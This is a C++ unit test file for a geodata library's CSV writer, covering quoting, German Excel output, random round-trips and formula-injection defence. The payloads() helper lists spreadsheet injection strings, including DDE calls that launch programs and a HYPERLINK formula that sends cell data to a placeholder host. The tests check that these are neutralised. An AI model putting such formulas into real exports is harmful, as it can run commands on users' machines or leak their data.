#include <cmath>
#include <random>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "geo/core/error.h"
#include "geo/io/cell_text.h"
#include "geo/io/csv_reader.h"
#include "geo/io/recipe.h"
#include "geo/io/writers.h"
#include "tests/support/shared_data.h"

namespace nahraum::geo {
namespace {

const double kNaN = std::nan("");

Table kitas() {
  TableBuilder builder;
  builder.add_text("kita_id", {"Kita-Nr.", "Kita no."}, {"0001", "0002", "0003"});
  builder.add_text("name", {"Einrichtung", "Facility"}, {"Sonne; Mond", "Haus \"Igel\"", "a\nb"});
  builder.add_number("way", {"Weg", "Way"}, "m", 1, {100000, 0.5, kNaN});
  builder.add({.name = "children",
               .title = {"Kinder", "Children"},
               .unit = "",
               .type = ColumnType::Integer,
               .texts = {},
               .numbers = {12, kNaN, 0},
               .flags = {ValueFlag::Limited, ValueFlag::Secret, ValueFlag::ExactZero}});
  return std::move(builder).build();
}

Table texts(std::vector<std::string> values) {
  TableBuilder builder;
  builder.add_text("a", {"A", "A"}, std::move(values));
  return std::move(builder).build();
}

TEST(CsvWriter, PlainForPrograms) {
  EXPECT_EQ(csv_text(kitas(), {}),
            "kita_id,name,way,way_flag,children,children_flag\n"
            "0001,\"Sonne; Mond\",100000,,12,limited\n"
            "0002,\"Haus \"\"Igel\"\"\",0.5,,,secret\n"
            "0003,\"a\nb\",,missing,0,exact_zero\n");
}

TEST(CsvWriter, GermanForExcel) {
  EXPECT_EQ(csv_text(kitas(), {.german = true, .titles = true}),
            "\xEF\xBB\xBFKita-Nr.;Einrichtung;Weg (m);Weg (m) (Kennzeichen);Kinder;Kinder "
            "(Kennzeichen)\r\n"
            "0001;\"Sonne; Mond\";100000;;12;Aussagewert eingeschränkt\r\n"
            "0002;\"Haus \"\"Igel\"\"\";0,5;;;unbekannt oder geheim\r\n"
            "0003;\"a\nb\";;keine Angabe;0;genau null\r\n");
}

TEST(CsvWriter, BlankLinesAndSylkAreAvoided) {
  EXPECT_EQ(csv_text(texts({"x", "", "y"}), {}), "a\nx\n\"\"\ny\n");
  TableBuilder builder;
  builder.add_text("ID", same_text("ID"), {"1"});
  EXPECT_EQ(csv_text(std::move(builder).build(), {}), "\"ID\"\n1\n");
}

TEST(CsvWriter, NumbersAreNoFormulas) {
  EXPECT_EQ(csv_text(texts({"-5", "-1.5", "+7", "-", "- 12"}), {}), "a\n-5\n-1.5\n+7\n-\n- 12\n");
  EXPECT_EQ(csv_text(texts({"-1,5"}), {.german = true}),
            "\xEF\xBB\xBF"
            "a\r\n\"-1,5\"\r\n");
}

// What a spreadsheet might run, in many dresses.
std::vector<std::string> payloads() {
  const std::vector<std::string> cores = {"1+1",
                                          "cmd|' /C calc'!A0",
                                          "HYPERLINK(\"http://x.invalid?\"&A1,\"ok\")",
                                          "2+5+cmd|'/C notepad'!A0",
                                          "SUM(1;2)",
                                          "IMPORTXML(\"http://x.invalid\",\"//a\")",
                                          "WEBSERVICE(\"http://x.invalid\")",
                                          "DDE(\"cmd\";\"/C calc\";\"x\")",
                                          "A1",
                                          "1\n=2",
                                          "\"a\";=1"};
  const std::vector<std::string> triggers = {"=", "+", "-", "@", "＝", "＋", "－", "＠"};
  const std::vector<std::string> before = {"", " ", "\t", "\r", "\n", "\u00A0"};
  std::vector<std::string> all;
  for (const std::string& core : cores) {
    for (const std::string& trigger : triggers) {
      for (const std::string& blank : before) all.push_back(blank + trigger + core);
    }
  }
  return all;
}

TEST(CsvWriter, FiveHundredInjectionsStayText) {
  const std::vector<std::string> cells = payloads();
  ASSERT_GE(cells.size(), 500u);
  for (const bool german : {false, true}) {
    Findings findings;
    const RawTable read =
        parse_csv(csv_text(texts(cells), {.german = german}), "a.csv", {}, findings);
    ASSERT_EQ(read.rows.size(), cells.size());
    for (std::size_t i = 0; i < cells.size(); ++i) {
      EXPECT_EQ(read.rows[i][0], "'" + cells[i]);
      EXPECT_EQ(findings.count("csv.text_after_quote"), 0u);
    }
  }
}

TEST(CsvWriter, HeadingsAreGuardedToo) {
  TableBuilder builder;
  builder.add_text("a", same_text("=1+1"), {"x"});
  EXPECT_EQ(csv_text(std::move(builder).build(), {.titles = true}), "'=1+1\nx\n");
}

// Any texts and numbers come back from the file as they were.
TEST(CsvWriter, RoundTripOfDrawnTables) {
  const unsigned seed = 4711;
  RecordProperty("seed", static_cast<int>(seed));
  std::mt19937_64 random(seed);
  const std::vector<std::string> pieces = {"a", "ä", ";", ",", "\"", "\n",
                                           " ", "x", "7", "|", "\t", "€"};
  for (int round = 0; round < 300; ++round) {
    const std::size_t rows = 1 + random() % 20;
    std::vector<std::string> words;
    std::vector<double> numbers;
    for (std::size_t r = 0; r < rows; ++r) {
      std::string word = "w";
      for (std::size_t n = random() % 6; n > 0; --n) word += pieces[random() % pieces.size()];
      words.push_back(std::string(trim_blanks(word)));
      numbers.push_back((static_cast<double>(random() % 2'000'001) - 1e6) / 128);
    }
    TableBuilder builder;
    builder.add_text("word", same_text("Wort"), words);
    builder.add_number("value", same_text("Wert"), "", 3, numbers);
    const Table table = std::move(builder).build();
    const bool german = round % 2 == 0;
    Findings findings;
    const RawTable raw = parse_csv(csv_text(table, {.german = german}), "a.csv", {}, findings);
    const Recipe recipe{.fields = {{"word", "word"}, {"value", "value", FieldKind::Number}},
                        .decimal = german ? ',' : '.'};
    const Table read = apply_recipe(raw, recipe, findings);
    ASSERT_EQ(read.text("word"), words) << csv_text(table, {});
    ASSERT_EQ(read.number("value"), numbers);
  }
}

TEST(CsvWriter, FileIsWrittenWholeOrNotAtAll) {
  const support::TemporaryFolder folder;
  write_csv(folder.path() / "a.csv", kitas(), {});
  EXPECT_EQ(support::read_text(folder.path() / "a.csv"), csv_text(kitas(), {}));
  EXPECT_THROW(write_csv(folder.path() / "no" / "a.csv", kitas(), {}), Error);
}

}  // namespace
}  // namespace nahraum::geo
